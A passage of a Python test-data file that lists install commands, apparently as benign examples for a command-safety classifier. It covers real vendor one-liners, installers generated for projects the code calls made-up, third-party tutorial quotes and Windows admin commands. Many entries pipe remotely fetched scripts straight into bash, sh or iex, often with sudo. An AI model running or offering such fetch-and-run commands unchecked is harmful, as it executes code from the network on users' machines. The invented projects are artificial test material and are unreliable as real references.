    ("https://pivpn.io/", "curl -L https://install.pivpn.io | bash"),
    (
        "https://runtipi.io/docs/getting-started/installation",
        "curl -L https://setup.runtipi.io | bash",
    ),
    (
        "https://yunohost.org/en/install/hardware:regular",
        "curl https://install.yunohost.org | bash",
    ),
    (
        "https://jellyfin.org/docs/general/installation/linux/",
        "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
    ),
    (
        "https://community-scripts.github.io/ProxmoxVE/scripts?id=homeassistant",
        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/community-scripts/ProxmoxVE/main/ct/homeassistant.sh)"',
    ),
    (
        "https://webmin.com/download/",
        "curl -o webmin-setup-repo.sh https://raw.githubusercontent.com/webmin/webmin/master/webmin-setup-repo.sh\nsudo sh webmin-setup-repo.sh",
    ),
    (
        "https://docs.datadoghq.com/agent/basic_agent_usage/ubuntu/",
        'DD_API_KEY=<YOUR_API_KEY> DD_SITE="datadoghq.com" bash -c "$(curl -L https://install.datadoghq.com/scripts/install_script_agent7.sh)"',
    ),
    (
        "https://docs.newrelic.com/docs/new-relic-solutions/tutorials/new-relic-cli/",
        "curl -Ls https://download.newrelic.com/install/newrelic-cli/scripts/install.sh | bash && sudo NEW_RELIC_API_KEY=<KEY> NEW_RELIC_ACCOUNT_ID=<ID> /usr/local/bin/newrelic install",
    ),
    ("https://docs.sentry.io/cli/installation/", "curl -sL https://sentry.io/get-cli/ | sh"),
    (
        "https://docs.doppler.com/docs/install-cli",
        '(curl -Ls --tlsv1.2 --proto "=https" --retry 3 https://cli.doppler.com/install.sh || wget -t 3 -qO- https://cli.doppler.com/install.sh) | sudo sh',
    ),
    (
        "https://infisical.com/docs/cli/overview",
        "curl -1sLf 'https://artifacts-cli.infisical.com/setup.deb.sh' | sudo -E bash\nsudo apt-get update && sudo apt-get install -y infisical",
    ),
    (
        "https://developer.1password.com/docs/cli/get-started/",
        "curl -sS https://downloads.1password.com/linux/keys/1password.asc | \\\n  sudo gpg --dearmor --output /usr/share/keyrings/1password-archive-keyring.gpg",
    ),
    (
        "https://signal.org/download/linux/",
        "wget -O- https://updates.signal.org/desktop/apt/keys.asc | gpg --dearmor > signal-desktop-keyring.gpg\ncat signal-desktop-keyring.gpg | sudo tee /usr/share/keyrings/signal-desktop-keyring.gpg > /dev/null",
    ),
    ("https://brave.com/linux/", "curl -fsS https://dl.brave.com/install.sh | sh"),
    (
        "https://www.sublimetext.com/docs/linux_repositories.html",
        "wget -qO - https://download.sublimetext.com/sublimehq-pub.gpg | gpg --dearmor | sudo tee /etc/apt/trusted.gpg.d/sublimehq-archive.gpg > /dev/null",
    ),
    ("https://aider.chat/docs/install.html", "curl -LsSf https://aider.chat/install.sh | sh"),
    (
        "https://block.github.io/goose/docs/getting-started/installation",
        "curl -fsSL https://github.com/block/goose/releases/download/stable/download_cli.sh | bash",
    ),
    ("https://cursor.com/cli", "curl https://cursor.com/install -fsS | bash"),
    (
        "https://github.com/Raphire/Win11Debloat",
        '& ([scriptblock]::Create((irm "https://debloat.raphi.re/")))',
    ),
    (
        "https://learn.microsoft.com/en-us/azure/developer/azure-developer-cli/install-azd",
        "powershell -ex AllSigned -c \"Invoke-RestMethod 'https://aka.ms/install-azd.ps1' | Invoke-Expression\"",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/developer/azure-developer-cli/install-azd",
        "curl -fsSL https://aka.ms/install-azd.sh | bash",
    ),
    (
        "https://github.com/version-fox/vfox",
        'iex "& {$(irm https://raw.githubusercontent.com/version-fox/vfox/main/install.ps1)}"',
    ),
    (
        "https://docs.dapr.io/getting-started/install-dapr-cli/",
        'powershell -Command "iwr -useb https://raw.githubusercontent.com/dapr/cli/master/install/install.ps1 | iex"',
    ),
    (
        "https://docs.dapr.io/getting-started/install-dapr-cli/",
        "wget -q https://raw.githubusercontent.com/dapr/cli/master/install/install.sh -O - | /bin/bash",
    ),
    (
        "https://kubescape.io/docs/install-cli/",
        "curl -s https://raw.githubusercontent.com/kubescape/kubescape/master/install.sh | /bin/bash",
    ),
    (
        "https://github.com/aquasecurity/trivy",
        "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin v0.58.1",
    ),
    (
        "https://github.com/anchore/grype",
        "curl -sSfL https://get.anchore.io/grype | sudo sh -s -- -b /usr/local/bin",
    ),
    (
        "https://golangci-lint.run/welcome/install/",
        "curl -sSfL https://golangci-lint.run/install.sh | sh -s -- -b $(go env GOPATH)/bin v2.1.6",
    ),
    (
        "https://taskfile.dev/installation/",
        'sh -c "$(curl --location https://taskfile.dev/install.sh)" -- -d -b ~/.local/bin',
    ),
    (
        "https://frankenphp.dev/docs/",
        "curl https://frankenphp.dev/install.sh | sh\nmv frankenphp /usr/local/bin/",
    ),
    (
        "https://github.com/tj/n",
        "curl -fsSL https://raw.githubusercontent.com/tj/n/master/bin/n | bash -s install lts",
    ),
    (
        "https://sw.kovidgoyal.net/kitty/binary/",
        "curl -L https://sw.kovidgoyal.net/kitty/installer.sh | sh /dev/stdin",
    ),
    (
        "https://wezterm.org/install/linux.html",
        "curl -fsSL https://apt.fury.io/wez/gpg.key | sudo gpg --yes --dearmor -o /usr/share/keyrings/wezterm-fury.gpg\necho 'deb [signed-by=/usr/share/keyrings/wezterm-fury.gpg] https://apt.fury.io/wez/ * *' | sudo tee /etc/apt/sources.list.d/wezterm.list",
    ),
    (
        "https://github.com/jesseduffield/lazydocker",
        "curl https://raw.githubusercontent.com/jesseduffield/lazydocker/master/scripts/install_update_linux.sh | bash",
    ),
    (
        "https://eksctl.io/installation/",
        'curl -sLO "https://github.com/eksctl-io/eksctl/releases/latest/download/eksctl_$(uname -s)_amd64.tar.gz"\ntar -xzf eksctl_$(uname -s)_amd64.tar.gz -C /tmp && rm eksctl_$(uname -s)_amd64.tar.gz\nsudo mv /tmp/eksctl /usr/local/bin',
    ),
    (
        "https://argo-cd.readthedocs.io/en/stable/cli_installation/",
        "curl -sSL -o argocd-linux-amd64 https://github.com/argoproj/argo-cd/releases/latest/download/argocd-linux-amd64\nsudo install -m 555 argocd-linux-amd64 /usr/local/bin/argocd\nrm argocd-linux-amd64",
    ),
    ("https://fluxcd.io/flux/installation/", "curl -s https://fluxcd.io/install.sh | sudo bash"),
    (
        "https://k3d.io/stable/#installation",
        "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash",
    ),
    (
        "https://linkerd.io/2/getting-started/",
        "curl --proto '=https' --tlsv1.2 -sSfL https://run.linkerd.io/install-edge | sh",
    ),
    (
        "https://istio.io/latest/docs/setup/getting-started/",
        "curl -L https://istio.io/downloadIstio | sh -",
    ),
    (
        "https://kubectl.docs.kubernetes.io/installation/kustomize/binaries/",
        'curl -s "https://raw.githubusercontent.com/kubernetes-sigs/kustomize/master/hack/install_kustomize.sh"  | bash',
    ),
    (
        "https://www.okteto.com/docs/get-started/install-okteto-cli/",
        "curl https://get.okteto.com -sSfL | sh",
    ),
    (
        "https://nodered.org/docs/getting-started/raspberrypi",
        "bash <(curl -sL https://github.com/node-red/linux-installers/releases/latest/download/update-nodejs-and-nodered-deb)",
    ),
    (
        "https://lean-lang.org/install/manual/",
        "curl https://elan.lean-lang.org/elan-init.sh -sSf | sh",
    ),
    (
        "https://www.pantsbuild.org/stable/docs/getting-started/installing-pants",
        "curl --proto '=https' --tlsv1.2 -fsSL https://static.pantsbuild.org/setup/get-pants.sh | bash",
    ),
    (
        "https://clojure.org/guides/install_clojure",
        "curl -L -O https://github.com/clojure/brew-install/releases/latest/download/linux-install.sh\nchmod +x linux-install.sh\nsudo ./linux-install.sh",
    ),
    (
        "https://github.com/babashka/babashka",
        "bash < <(curl -s https://raw.githubusercontent.com/babashka/babashka/master/install)",
    ),
    ("https://direnv.net/docs/installation.html", "curl -sfL https://direnv.net/install.sh | bash"),
    (
        "https://lix.systems/install/",
        "curl -sSf -L https://install.lix.systems/lix | sh -s -- install",
    ),
    (
        "https://www.talos.dev/v1.10/talos-guides/install/talosctl/",
        "curl -sL https://talos.dev/install | sh",
    ),
    (
        "https://pacstall.dev/",
        'sudo bash -c "$(curl -fsSL https://pacstall.dev/q/install || wget -q https://pacstall.dev/q/install -O -)"',
    ),
    (
        "https://distrobox.it/#installation",
        "curl -s https://raw.githubusercontent.com/89luca89/distrobox/main/install | sudo sh",
    ),
    (
        "https://beszel.dev/guide/agent-installation",
        "curl -sL https://get.beszel.dev -o /tmp/install-agent.sh && chmod +x /tmp/install-agent.sh && /tmp/install-agent.sh",
    ),
    (
        "https://docs.dokploy.com/docs/core/installation",
        "curl -sSL https://dokploy.com/install.sh | sh",
    ),
    (
        "https://dokku.com/docs/getting-started/installation/",
        "wget -NP . https://dokku.com/install/v0.35.20/bootstrap.sh\nsudo DOKKU_TAG=v0.35.20 bash bootstrap.sh",
    ),
    ("https://easypanel.io/docs", "curl -sSL https://get.easypanel.io | sh"),
    (
        "https://docs.cloudron.io/installation/",
        "wget https://cloudron.io/cloudron-setup\nchmod +x ./cloudron-setup\n./cloudron-setup",
    ),
    (
        "https://mailinabox.email/guide.html",
        "curl -s https://mailinabox.email/setup.sh | sudo -E bash",
    ),
    (
        "https://hestiacp.com/install",
        "wget https://raw.githubusercontent.com/hestiacp/hestiacp/release/install/hst-install.sh\nsudo bash hst-install.sh",
    ),
    (
        "https://www.virtualmin.com/download/",
        "wget https://software.virtualmin.com/gpl/scripts/virtualmin-install.sh\nsudo sh virtualmin-install.sh",
    ),
    (
        "https://docs.openmediavault.org/en/stable/installation/on_debian.html",
        "wget -O - https://github.com/OpenMediaVault-Plugin-Developers/installScript/raw/master/install | sudo bash",
    ),
    (
        "https://github.com/AdguardTeam/AdGuardHome",
        "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v",
    ),
    (
        "https://technitium.com/dns/",
        "curl -sSL https://download.technitium.com/dns/install.sh | sudo bash",
    ),
    (
        "https://bitwarden.com/help/install-on-premise-linux/",
        'curl -Lso bitwarden.sh "https://func.bitwarden.com/api/dl/?app=self-host&platform=linux" && chmod 700 bitwarden.sh\n./bitwarden.sh install',
    ),
    (
        "https://about.gitlab.com/install/#ubuntu",
        'curl "https://packages.gitlab.com/install/repositories/gitlab/gitlab-ee/script.deb.sh" | sudo bash',
    ),
    (
        "https://buildkite.com/docs/agent/v3/linux",
        'TOKEN="<your-agent-token>" bash -c "$(curl -sL https://raw.githubusercontent.com/buildkite/agent/main/install.sh)"',
    ),
    (
        "https://circleci.com/docs/local-cli/",
        "curl -fLSs https://raw.githubusercontent.com/CircleCI-Public/circleci-cli/main/install.sh | bash",
    ),
    (
        "https://devcenter.heroku.com/articles/heroku-cli",
        "curl https://cli-assets.heroku.com/install.sh | sh",
    ),
    (
        "https://www.scaleway.com/en/docs/scaleway-cli/quickstart/",
        "curl -s https://raw.githubusercontent.com/scaleway/scaleway-cli/master/scripts/get.sh | sh",
    ),
    (
        "https://docs.oracle.com/en-us/iaas/Content/API/SDKDocs/cliinstall.htm",
        'bash -c "$(curl -L https://raw.githubusercontent.com/oracle/oci-cli/master/scripts/install/install.sh)"',
    ),
    (
        "https://cloud.ibm.com/docs/cli?topic=cli-install-ibmcloud-cli",
        "curl -fsSL https://clis.cloud.ibm.com/install/linux | sh",
    ),
    ("https://firebase.google.com/docs/cli", "curl -sL https://firebase.tools | bash"),
    (
        "https://docs.stripe.com/stripe-cli",
        "curl -s https://packages.stripe.dev/api/security/keypair/stripe-cli-gpg/public | gpg --dearmor | sudo tee /usr/share/keyrings/stripe.gpg",
    ),
    (
        "https://esbuild.github.io/getting-started/",
        "curl -fsSL https://esbuild.github.io/dl/latest | sh",
    ),
    (
        "https://github.com/git-lfs/git-lfs/blob/main/INSTALLING.md",
        "curl -s https://packagecloud.io/install/repositories/github/git-lfs/script.deb.sh | sudo bash",
    ),
    (
        "https://github.com/trufflesecurity/trufflehog",
        "curl -sSfL https://raw.githubusercontent.com/trufflesecurity/trufflehog/main/scripts/install.sh | sh -s -- -b /usr/local/bin",
    ),
    (
        "https://docs.metasploit.com/docs/using-metasploit/getting-started/nightly-installers.html",
        "curl https://raw.githubusercontent.com/rapid7/metasploit-omnibus/master/config/templates/metasploit-framework-wrappers/msfupdate.erb > msfinstall && \\\n  chmod 755 msfinstall && \\\n  ./msfinstall",
    ),
    (
        "https://argon40.com/blogs/argon-resources/argon-one-v3-script",
        "curl https://download.argon40.com/argon1.sh | bash",
    ),
    (
        "https://classic.yarnpkg.com/en/docs/install",
        "curl -o- -L https://yarnpkg.com/install.sh | bash",
    ),
    (
        "https://aspire.dev/get-started/install-cli/",
        'iex "& { $(irm https://aspire.dev/install.ps1) }"',
    ),
    ("https://omakub.org/", "wget -qO- https://omakub.org/install | bash"),
    (
        "https://www.docker.com/products/docker-desktop/",
        "winget install -e --id Docker.DockerDesktop",
    ),
    (
        "https://obsproject.com/download",
        "sudo add-apt-repository ppa:obsproject/obs-studio\nsudo apt install obs-studio",
    ),
    ("https://www.videolan.org/vlc/download-ubuntu.html", "sudo snap install vlc"),
    ("https://learn.microsoft.com/en-us/windows/wsl/install", "wsl --install -d Ubuntu-24.04"),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows",
        "winget install --id Microsoft.PowerShell --source winget",
    ),
    (
        "https://www.postgresql.org/download/linux/ubuntu/",
        "sudo apt install -y postgresql-common\nsudo /usr/share/postgresql-common/pgdg/apt.postgresql.org.sh",
    ),
    (
        "https://www.mongodb.com/docs/manual/tutorial/install-mongodb-on-ubuntu/",
        "curl -fsSL https://www.mongodb.org/static/pgp/server-8.0.asc | \\\n   sudo gpg -o /usr/share/keyrings/mongodb-server-8.0.gpg \\\n   --dearmor",
    ),
    (
        "https://redis.io/docs/latest/operate/oss_and_stack/install/install-stack/apt/",
        "curl -fsSL https://packages.redis.io/gpg | sudo gpg --dearmor -o /usr/share/keyrings/redis-archive-keyring.gpg",
    ),
    (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/deb.html",
        "wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo gpg --dearmor -o /usr/share/keyrings/elasticsearch-keyring.gpg",
    ),
    (
        "https://www.rabbitmq.com/docs/install-debian",
        'curl -1sLf "https://keys.openpgp.org/vks/v1/by-fingerprint/0A9AF2115F4687BD29803A206B73A36E6026DFCA" | sudo gpg --dearmor | sudo tee /usr/share/keyrings/com.rabbitmq.team.gpg > /dev/null',
    ),
    (
        "https://caddyserver.com/docs/install#debian-ubuntu-raspbian",
        "curl -1sLf 'https://dl.cloudsmith.io/public/caddy/stable/gpg.key' | sudo gpg --dearmor -o /usr/share/keyrings/caddy-stable-archive-keyring.gpg",
    ),
    (
        "https://www.jenkins.io/doc/book/installing/linux/",
        "sudo wget -O /etc/apt/keyrings/jenkins-keyring.asc \\\n  https://pkg.jenkins.io/debian-stable/jenkins.io-2023.key",
    ),
    (
        "https://grafana.com/docs/alloy/latest/set-up/install/linux/",
        "wget -q -O - https://apt.grafana.com/gpg.key | gpg --dearmor | sudo tee /etc/apt/keyrings/grafana.gpg > /dev/null",
    ),
    (
        "https://www.virtualbox.org/wiki/Linux_Downloads",
        "wget -O- https://www.virtualbox.org/download/oracle_vbox_2016.asc | sudo gpg --yes --output /usr/share/keyrings/oracle-virtualbox-2016.gpg --dearmor",
    ),
    (
        "https://docs.anaconda.com/miniconda/install/",
        "mkdir -p ~/miniconda3\nwget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O ~/miniconda3/miniconda.sh\nbash ~/miniconda3/miniconda.sh -b -u -p ~/miniconda3\nrm ~/miniconda3/miniconda.sh",
    ),
    (
        "https://docs.anaconda.com/miniconda/install/",
        'curl https://repo.anaconda.com/miniconda/Miniconda3-latest-Windows-x86_64.exe -o .\\miniconda.exe\nstart /wait "" .\\miniconda.exe /S\ndel .\\miniconda.exe',
    ),
    (
        "https://www.mozilla.org/en-US/firefox/linux/",
        "wget -q https://packages.mozilla.org/apt/repo-signing-key.gpg -O- | sudo tee /etc/apt/keyrings/packages.mozilla.org.asc > /dev/null",
    ),
    (
        "https://www.google.com/chrome/",
        "wget https://dl.google.com/linux/direct/google-chrome-stable_current_amd64.deb\nsudo apt install ./google-chrome-stable_current_amd64.deb",
    ),
    ("https://code.visualstudio.com/docs/setup/linux", "sudo snap install --classic code"),
    (
        "https://www.jetbrains.com/help/idea/installation-guide.html",
        "sudo tar -xzf ideaIU-2025.3.tar.gz -C /opt",
    ),
    (
        "https://support.apple.com/en-us/102527",
        "softwareupdate --install-rosetta --agree-to-license",
    ),
    ("https://support.mozilla.org/en-US/kb/install-firefox-linux", "sudo apt install firefox"),
    (
        "https://www.raspberrypi.com/documentation/computers/os.html",
        "sudo apt update && sudo apt full-upgrade -y && sudo rpi-eeprom-update -a",
    ),
]
for source, text in WELL_KNOWN:
    own(source, text)

# --- Long-tail projects with made-up owners, each from its own page --------------------------------

LONG_TAIL = [
    ("brackenfold", "tarn", "tarn"),
    ("inez-moreau", "quire", "quire"),
    ("saltgrass-dev", "driftctl", "driftctl"),
    ("olu-adeyemi", "kopa", "kopa"),
    ("cobaltmoth", "lattice-cli", "lattice"),
    ("ruthven", "pebblesync", "pebblesync"),
    ("aster-ops", "astersh", "astersh"),
    ("m-vasquez", "hollow", "hollow"),
    ("greywing-labs", "wingman", "wingman"),
    ("theo-brandt", "bramble", "bramble"),
    ("kelpforest", "kelp", "kelp"),
    ("nadia-haddad", "sirocco", "sirocco"),
    ("plinth-hq", "plinth", "plinth"),
    ("arvo-tamm", "rehv", "rehv"),
    ("juniper-works", "jnpr-notes", "jnpr"),
    ("ostrich-dev", "featherdb", "featherdb"),
    ("lumi-kallio", "revontuli", "revontuli"),
    ("redcedar-io", "cedarctl", "cedarctl"),
    ("sam-okoro", "baobab", "baobab"),
    ("quarryhill", "chisel-ls", "chisel"),
    ("veda-iyer", "nadi", "nadi"),
    ("foxglove-oss", "digitalis", "digitalis"),
    ("henrik-aas", "fjord-fetch", "fjordfetch"),
    ("mirelle", "carillon", "carillon"),
    ("stonewort", "wort", "wort"),
    ("koa-labs", "koactl", "koactl"),
    ("lena-petrova", "ikra", "ikra"),
    ("tidemill", "millrace", "millrace"),
    ("ambergris-dev", "amber-lsp", "amberlsp"),
    ("wren-castell", "wrenfmt", "wrenfmt"),
]


def long_tail() -> None:
    """Each project documents one installer in its own README, release page, Pages site or
    domain, in the shapes READMEs really use; the page always belongs to the same owner or
    project as the script."""
    shapes = [
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"curl -fsSL https://raw.githubusercontent.com/{o}/{r}/main/install.sh | bash",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#install",
            f"curl -sSfL https://raw.githubusercontent.com/{o}/{r}/HEAD/scripts/get.sh | sh -s -- --prefix ~/.local",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}/releases/latest",
            f"curl -LsSf https://github.com/{o}/{r}/releases/latest/download/{b}-installer.sh | sh",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#windows",
            f"irm https://github.com/{o}/{r}/releases/latest/download/{b}-installer.ps1 | iex",
        ),
        lambda o, r, b: (
            f"https://{o}.github.io/{r}/",
            f"curl -fsSL https://{o}.github.io/{r}/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://{o}.github.io/{r}/getting-started/",
            f'sh -c "$(curl -fsSL https://raw.githubusercontent.com/{o}/{r}/main/install.sh)"',
        ),
        lambda o, r, b: (f"https://{b}.dev/docs/install", f"curl -fsSL https://get.{b}.dev | sh"),
        lambda o, r, b: (
            f"https://{b}.dev/",
            f"curl --proto '=https' --tlsv1.2 -LsSf https://{b}.dev/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://www.{b}.io/download",
            f'powershell -ExecutionPolicy ByPass -c "irm https://{b}.io/install.ps1 | iex"',
        ),
        lambda o, r, b: (
            f"https://docs.{b}.io/installation",
            f"curl -fsSL https://get.{b}.io/install.sh | bash -s -- --version 2.3.0",
        ),
        lambda o, r, b: (
            f"https://gitlab.com/{o}/{r}",
            f"curl -fsSL https://gitlab.com/{o}/{r}/-/raw/main/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://codeberg.org/{o}/{r}",
            f"curl -fsSL https://codeberg.org/{o}/{r}/raw/branch/main/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#zsh",
            f'zsh -c "$(curl -fsSL https://raw.githubusercontent.com/{o}/{r}/master/tools/install.zsh)"',
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#quick-start",
            f"wget -qO- https://raw.githubusercontent.com/{o}/{r}/main/install.sh | bash",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#powershell",
            f"iwr -useb https://raw.githubusercontent.com/{o}/{r}/main/install.ps1 | iex",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}/releases/tag/v1.8.0",
            f"curl -LO https://github.com/{o}/{r}/releases/download/v1.8.0/{b}_1.8.0_linux_amd64.tar.gz\ntar xzf {b}_1.8.0_linux_amd64.tar.gz\nsudo install {b} /usr/local/bin/",
        ),
        lambda o, r, b: (f"https://{b}.sh/", f"curl -fsSL https://{b}.sh/install | sh"),
        lambda o, r, b: (
            f"https://docs.{b}.dev/install/",
            f'curl -fsSL https://{b}.dev/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/{b}.gpg\necho "deb [signed-by=/usr/share/keyrings/{b}.gpg] https://apt.{b}.dev stable main" | sudo tee /etc/apt/sources.list.d/{b}.list\nsudo apt update && sudo apt install {b}',
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#one-liner",
            f"bash <(curl -fsSL https://raw.githubusercontent.com/{o}/{r}/main/bootstrap.sh)",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#windows-installer",
            f"& ([scriptblock]::Create((irm https://raw.githubusercontent.com/{o}/{r}/main/install.ps1))) -InstallDir $HOME\\{b}",
        ),
    ]
    n = 0
    for o, r, b in LONG_TAIL:
        for _ in (0, 1):
            shape = shapes[n % len(shapes)]
            source, text = shape(o, r, b)
            own(source, text, TERM)
            n += 1


long_tail()

# --- Installers quoted on third-party pages (tutorials, Q&A, blogs), pasted into a terminal -------

THIRD = "installer-third-party"
for source, text in [
    (
        "https://www.digitalocean.com/community/tutorials/how-to-install-and-use-direnv",
        "curl -sfL https://direnv.net/install.sh | bash",
    ),
    (
        "https://stackoverflow.com/questions/61129474/how-to-install-k3d",
        "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | TAG=v5.8.3 bash",
    ),
    (
        "https://dev.to/someone/setting-up-elixir-on-ubuntu-2026-3k1p",
        "curl -fsSO https://elixir-lang.org/install.sh && sh install.sh elixir@latest otp@latest",
    ),
    ("https://www.howtogeek.com/how-to-set-up-pivpn/", "curl -L https://install.pivpn.io | bash"),
    (
        "https://askubuntu.com/questions/1456021/install-jellyfin-server",
        "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
    ),
    (
        "https://medium.com/@devnotes/laravel-on-a-new-mac-in-5-minutes-4c1e",
        '/bin/bash -c "$(curl -fsSL https://php.new/install/mac/8.4)"',
    ),
    (
        "https://www.reddit.com/r/selfhosted/comments/1h2k3l4/dokploy_vs_coolify/",
        "curl -sSL https://dokploy.com/install.sh | sh",
    ),
    (
        "https://www.tecmint.com/install-webmin-on-ubuntu/",
        "curl -o webmin-setup-repo.sh https://raw.githubusercontent.com/webmin/webmin/master/webmin-setup-repo.sh && sudo sh webmin-setup-repo.sh",
    ),
    (
        "https://superuser.com/questions/1782245/debloat-windows-11",
        '& ([scriptblock]::Create((irm "https://debloat.raphi.re/")))',
    ),
    (
        "https://www.freecodecamp.org/news/how-to-use-fish-shell/",
        "curl -sL https://raw.githubusercontent.com/jorgebucaran/fisher/main/functions/fisher.fish | source && fisher install jorgebucaran/fisher",
    ),
    (
        "https://linuxize.com/post/how-to-install-trivy/",
        "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sudo sh -s -- -b /usr/local/bin",
    ),
    ("https://news.ycombinator.com/item?id=41223344", "curl -fsS https://pkgx.sh | sh"),
    (
        "https://www.smashingmagazine.com/2026/01/deno-for-node-developers/",
        "curl -fsSL https://deno.land/install.sh | sh",
    ),
    (
        "https://blog.jetbrains.com/kotlin/2026/02/scala-and-kotlin-setup/",
        "curl -fL https://github.com/coursier/coursier/releases/latest/download/cs-x86_64-pc-linux.gz | gzip -d > cs && chmod +x cs && ./cs setup",
    ),
]:
    ok(THIRD, TERM, source, text)

# --- Admin PowerShell and cmd from vendor documentation -------------------------------------------

ADMIN = "admin-command"
for source, text in [
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/sfc",
        "sfc /scannow",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-hardware/manufacture/desktop/repair-a-windows-image",
        "DISM /Online /Cleanup-Image /RestoreHealth",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_execution_policies",
        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/netsecurity/new-netfirewallrule",
        'New-NetFirewallRule -DisplayName "Allow RDP from admin VLAN" -Direction Inbound -Protocol TCP -LocalPort 3389 -RemoteAddress 10.20.0.0/24 -Action Allow',
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/reset-tcp-ip",
        "netsh int ip reset\nnetsh winsock reset\nipconfig /flushdns",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/manage-recall",
        "DISM /Online /Disable-Feature /FeatureName:Recall",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/activedirectory/get-aduser",
        "Get-ADUser -Filter 'Enabled -eq $true' -Properties LastLogonDate | Where-Object { $_.LastLogonDate -lt (Get-Date).AddDays(-90) } | Select-Object Name, SamAccountName, LastLogonDate",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/bitlocker/get-bitlockervolume",
        "Get-BitLockerVolume | Select-Object MountPoint, VolumeStatus, ProtectionStatus, EncryptionPercentage",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/device-management/windows-security-configuration-framework/windows-security-baselines",
        "Get-MpComputerStatus | Select-Object AMServiceEnabled, AntivirusEnabled, RealTimeProtectionEnabled, AntivirusSignatureLastUpdated",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/restart-computer",
        "Restart-Computer -ComputerName SRV-FILE01, SRV-PRINT02 -Wait -For PowerShell -Timeout 300 -Delay 2",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/pnpdevice/get-pnpdevice",
        "Get-PnpDevice -PresentOnly | Where-Object { $_.Status -ne 'OK' } | Format-Table -AutoSize",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/upgrade",
        "winget upgrade --all --include-unknown --accept-package-agreements --accept-source-agreements",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/gallery/installing-psget",
        "Install-Module -Name PowerShellGet -Force -AllowClobber -Scope CurrentUser",
    ),
    (
        "https://learn.microsoft.com/en-us/exchange/clients-and-mobile-in-exchange-online/outlook-on-the-web/mailbox-audit-logging",
        "Connect-ExchangeOnline -UserPrincipalName admin@contoso.com\nGet-Mailbox -ResultSize Unlimited | Set-Mailbox -AuditEnabled $true",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        "robocopy \\\\fs01\\projects D:\\Backup\\projects /MIR /R:2 /W:5 /MT:16 /LOG:D:\\Backup\\robocopy.log",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/gpupdate",
        "gpupdate /force",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wevtutil",
        'wevtutil qe Security /q:"*[System[(EventID=4625)]]" /c:20 /rd:true /f:text',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/windows-update-logs",
        "Get-WindowsUpdateLog -LogPath $env:USERPROFILE\\Desktop\\WindowsUpdate.log",
    ),
    ("https://learn.microsoft.com/en-us/windows/win32/wmisdk/wmic", "wmic bios get serialnumber"),
    (
        "https://learn.microsoft.com/en-us/windows-server/storage/disk-management/manage-disks",
        "Get-Disk | Where-Object PartitionStyle -eq 'RAW' | Initialize-Disk -PartitionStyle GPT -PassThru | New-Partition -AssignDriveLetter -UseMaximumSize | Format-Volume -FileSystem NTFS -NewFileSystemLabel 'Data' -Confirm:$false",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/identity-protection/hello-for-business/",
        'certutil -store -user My | findstr /i "Subject NotAfter"',
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/autoruns",
        "autorunsc64.exe -accepteula -a * -c -h -s -v -vt > C:\\IR\\autoruns.csv",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse",
        "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0\nStart-Service sshd\nSet-Service -Name sshd -StartupType 'Automatic'",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/threat-protection/microsoft-defender-antivirus/command-line-arguments-microsoft-defender-antivirus",
        '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -Scan -ScanType 2',
    ),
    (
        "https://support.microsoft.com/en-us/windows/reset-windows-update-components",
        "net stop wuauserv\nnet stop bits\nren C:\\Windows\\SoftwareDistribution SoftwareDistribution.old\nnet start bits\nnet start wuauserv",
    ),
    (
